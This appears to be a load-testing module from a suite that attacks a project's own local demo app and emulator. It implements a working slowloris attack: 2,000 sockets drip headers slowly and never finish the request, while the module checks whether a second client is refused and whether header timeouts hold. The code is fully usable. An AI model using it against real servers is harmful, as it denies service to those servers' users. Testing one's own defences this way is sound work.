/**
 * Attack 12: sockets held open by sending headers slowly (slowloris), from one address, against
 * the demo app and the emulator at once. Each socket sends a request line and one header, then a
 * header every 5 s, never the blank line. Meanwhile a client at another address asks each server
 * for a page.
 */
import { connect, type Socket } from 'node:net';
import { send } from './http-client.js';
import { seconds, sleep } from './pace.js';
import { row, type Row } from './report.js';
import { withStack } from './stack.js';

type Say = (line: string) => void;

const SOCKETS = 2_000;
const HOLD_MS = 20_000;
const FROM = '127.0.12.1';

interface Held {
  connected: number;
  /** Closed by the server within 2 s of connecting: not kept. */
  closedAtOnce: number;
  /** Open when the hold ended. */
  heldToEnd: number;
  /** How long the server kept each socket it closed later (ms). */
  closedAfter: number[];
}

async function hold(
  url: string,
  path: string,
  legitAtMs: number,
  legitUrl: string,
): Promise<{ held: Held; legit: number }> {
  const target = new URL(url);
  const sockets = new Set<Socket>();
  const held: Held = { connected: 0, closedAtOnce: 0, heldToEnd: 0, closedAfter: [] };
  const started = performance.now();
  let ended = false;
  for (let i = 0; i < SOCKETS; i++) {
    const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: FROM });
    let connectedAt: number | undefined;
    socket.on('connect', () => {
      connectedAt = performance.now();
      held.connected++;
      sockets.add(socket);
      socket.write(`POST ${path} HTTP/1.1\r\nHost: ${target.host}\r\n`);
    });
    // Read (and drop) whatever the server answers, or its close would go unseen.
    socket.resume();
    socket.on('error', () => {});
    socket.on('close', () => {
      sockets.delete(socket);
      if (ended || connectedAt === undefined) return;
      const lived = performance.now() - connectedAt;
      if (lived < 2000) held.closedAtOnce++;
      else held.closedAfter.push(lived);
    });
    // A batch at a time, so the listen backlog takes them.
    if (i % 200 === 199) await sleep(50);
  }
  const drip = setInterval(() => {
    for (const socket of sockets) if (socket.writable) socket.write('X-Slow: 1\r\n');
  }, 5_000);
  await sleep(Math.max(0, legitAtMs - (performance.now() - started)));
  const legit = (await send(legitUrl, { from: '127.9.9.9', timeoutMs: 3_000, headers: { connection: 'close' } }))
    .status;
  await sleep(Math.max(0, HOLD_MS - (performance.now() - started)));
  clearInterval(drip);
  ended = true;
  held.heldToEnd = sockets.size;
  for (const socket of sockets) socket.destroy();
  return { held, legit };
}

const median = (values: number[]) => [...values].sort((a, b) => a - b)[Math.floor(values.length / 2)] ?? 0;
/** Sockets the server kept: those it did not close at once. */
const keptCount = (held: Held) => held.closedAfter.length + held.heldToEnd;
const kept = (held: Held) =>
  `${keptCount(held)}, ${held.closedAfter.length ? `closed after ${seconds(median(held.closedAfter))}` : `none closed in ${seconds(HOLD_MS)}`}`;

function line(name: string, { held, legit }: { held: Held; legit: number }): string {
  const closed = held.closedAfter.length
    ? `, ${held.closedAfter.length} closed by the server after ${seconds(median(held.closedAfter))} (median)`
    : '';
  return `${name}: ${held.connected} of ${SOCKETS} connected, ${held.closedAtOnce} closed at once${closed}, ${held.heldToEnd} still open at ${seconds(HOLD_MS)}; a client at another address: ${legit || 'no answer'}`;
}

export function slowHeaders(say: Say): Promise<Row[]> {
  return withStack(async (stack) => {
    const [app, emulator] = await Promise.all([
      hold(stack.appUrl, '/api/verify', 10_000, `${stack.appUrl}/api/config`),
      hold(stack.emulatorUrl, '/v3/unify', 10_000, `${stack.emulatorUrl}/sandbox/stats`),
    ]);
    say(line('demo app', app));
    say(line('emulator', emulator));
    const legitRefused = [app.legit, emulator.legit].some((status) => status !== 200);
    // Past the 15 s header timeout, a socket still open is one the server did not time out.
    const pastTimeout = app.held.heldToEnd + emulator.held.heldToEnd;
    return [
      row({
        attack: `12. slow-header sockets, one address`,
        sent: `${SOCKETS} sockets to each of app and emulator, ${seconds(HOLD_MS)}`,
        through: `kept: app ${kept(app.held)}; emulator ${kept(emulator.held)}`,
        legitRefused: legitRefused
          ? `YES: app ${app.legit || 'no answer'}, emulator ${emulator.legit || 'no answer'}`
          : 'no (200)',
        gotThrough: legitRefused || pastTimeout > 0,
        why: [
          legitRefused ? 'another client was refused' : 'another client was served',
          pastTimeout ? 'sockets outlived the header timeout' : 'timed out',
        ].join('; '),
      }),
    ];
  });
}
